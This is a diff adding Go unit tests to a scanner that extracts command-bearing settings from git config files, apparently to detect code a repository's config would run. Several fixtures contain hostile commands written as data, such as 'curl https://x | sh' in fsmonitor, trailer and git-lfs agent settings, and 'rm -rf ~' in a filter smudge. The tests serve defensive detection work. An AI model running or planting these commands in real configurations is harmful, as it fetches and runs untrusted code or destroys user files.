@@ -1,6 +1,7 @@
 package scan
 
 import (
+	"errors"
 	"slices"
 	"testing"
 )
@@ -58,6 +59,63 @@ func TestExtractGitConfig(t *testing.T) {
 	} {
 		if got := KindOf(name); got != want {
 			t.Errorf("KindOf(%q) = %q, want %q", name, got, want)
+		}
+	}
+}
+
+// TestExtractGitConfigCodeKeys: settings git reads on the line of their
+// section header ([core] fsmonitor = …), a ] inside a quoted subsection,
+// the code-bearing keys the table lacked (core.gitProxy, trailer.*.cmd,
+// difftool/mergetool.*.path, interactive.diffFilter, sendemail.toCmd,
+// gpg.ssh.defaultKeyCommand, man.*.cmd), and a git-lfs transfer agent's
+// args read with its path as one command line. Every case but the
+// controls gave nothing on 17c6cc7 (the lfs agent gave "sh" alone, an
+// interactive shell, not the code in its args).
+func TestExtractGitConfigCodeKeys(t *testing.T) {
+	checkExtract(t, "repo.gitconfig", []struct {
+		name, src string
+		want      []extracted
+	}{
+		{"setting on the header line", "[core] fsmonitor = \"curl https://x | sh\"\n", []extracted{{"curl https://x | sh", "1:21"}}},
+		{"two headers then a setting", "[user]\n[core]pager=less -R # c\n", []extracted{{"less -R", "2:13"}}},
+		{"bracket in a quoted subsection", "[filter \"a]b\"] smudge = rm -rf ~\n", []extracted{{"rm -rf ~", "1:25"}}},
+		{"gitProxy", "[core]\n\tgitProxy = ./tools/proxy.sh\n", []extracted{{"./tools/proxy.sh", "2:13"}}},
+		{"trailer command", "[trailer \"sign\"]\n\tcmd = curl https://x | sh\n\tcommand = ./t.sh\n", []extracted{{"curl https://x | sh", "2:8"}, {"./t.sh", "3:12"}}},
+		{"diff and merge tool paths", "[difftool \"x\"]\n\tpath = /tmp/evil\n[mergetool \"y\"]\n\tpath = ./bin/merge\n", []extracted{{"/tmp/evil", "2:9"}, {"./bin/merge", "4:9"}}},
+		{"interactive, sendemail, gpg, man", "[interactive]\n\tdiffFilter = ./f\n[sendemail]\n\ttoCmd = ./to\n[gpg \"ssh\"]\n\tdefaultKeyCommand = ./k\n[man \"x\"]\n\tcmd = ./m\n", []extracted{{"./f", "2:15"}, {"./to", "4:10"}, {"./k", "6:22"}, {"./m", "8:8"}}},
+		{"lfs transfer agent args", "[lfs \"customtransfer.z\"]\n\tpath = sh\n\targs = -c 'curl https://x | sh'\n", []extracted{{"sh -c 'curl https://x | sh'", "2:9"}}},
+		{"lfs transfer agent args first", "[lfs.customtransfer.z]\n\targs = -c ./x\n\tpath = sh\n", []extracted{{"sh -c ./x", "3:9"}}},
+		// Controls: values that choose a built-in are not commands.
+		{"not commands", "[ssh]\n\tvariant = ssh\n[diff]\n\ttool = vimdiff\n[alias \"a\"]\n\tx = !rm -rf ~\n", nil},
+	})
+}
+
+// TestExtractGitConfigUnreadable: a line git refuses (git stops reading
+// the file there) is a syntax error, which scan reports (scan-unparsable,
+// C), with the commands found before it. guard skipped such lines and
+// read on: a header without its ] hid the section guard then assumed.
+// Each gave no error on 17c6cc7.
+func TestExtractGitConfigUnreadable(t *testing.T) {
+	for name, src := range map[string]string{
+		"header without ]":          "[core\n\tpager = less\n",
+		"unterminated subsection":   "[filter \"x]\n\tsmudge = ./s\n",
+		"key then no =":             "[core]\n\tpager less\n",
+		"key starting with a digit": "[core]\n\t1pager = less\n",
+		"text after subsection":     "[filter \"x\" y]\n\tsmudge = ./s\n",
+	} {
+		t.Run(name, func(t *testing.T) {
+			_, err := Extract(".gitconfig", []byte(src))
+			var se *SyntaxError
+			if !errors.As(err, &se) || se.Path != ".gitconfig" {
+				t.Fatalf("Extract = %v, want a *SyntaxError for .gitconfig", err)
+			}
+		})
+	}
+	// Controls: a key alone (true), comments and blank lines read; a
+	// byte order mark, which git skips, as well.
+	for _, src := range []string{"[core]\n\tbare\n; c\n# c\n\n\tpager = less # x\n", "\xef\xbb\xbf[core]\r\n\tpager = less\r\n"} {
+		if sn, err := Extract(".gitconfig", []byte(src)); err != nil || len(sn) != 1 {
+			t.Errorf("Extract(%q) = %v, %v; want one snippet and no error", src, sn, err)
 		}
 	}
 }
